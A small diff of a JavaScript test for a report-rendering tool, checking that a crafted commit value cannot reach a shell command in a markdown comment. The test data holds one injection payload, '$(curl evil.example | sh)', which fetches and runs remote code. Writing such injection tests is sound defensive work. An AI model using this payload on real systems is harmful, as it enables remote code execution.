@@ -34,7 +34,9 @@ describe('the comment', () => {
   it('gives the shell nothing but hashes to run', () => {
     const report = failReport();
     const evil = { ...report.change.head, commit: '$(curl evil.example | sh)' };
-    expect(render('markdown', { ...report, change: { ...report.change, head: evil } })).toContain('--head REV --seed-key 412\n');
+    expect(render('markdown', { ...report, change: { ...report.change, head: evil } })).toContain(
+      '--head REV --seed-key 412\n',
+    );
   });
 });
 
